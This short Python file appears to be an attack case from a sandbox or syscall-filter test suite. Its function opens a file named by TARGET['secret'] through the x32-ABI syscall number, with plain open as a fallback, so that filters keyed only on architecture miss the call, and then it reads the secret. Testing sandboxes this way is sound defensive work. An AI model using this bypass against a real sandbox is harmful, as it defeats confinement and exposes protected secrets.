"""Opens a file by the numbers of the x32 ABI, of the same architecture as far as filters see."""

import ctypes
import os


def attack(A):
    libc = ctypes.CDLL(None, use_errno=True)
    for number in (0x40000002, 2):  # kernels without x32 know only the plain one
        none = ctypes.c_long(0)
        descriptor = libc.syscall(ctypes.c_long(number), TARGET["secret"].encode(), none, none)
        if descriptor >= 0:
            return os.read(descriptor, 100).decode()
    raise OSError(ctypes.get_errno(), "open")
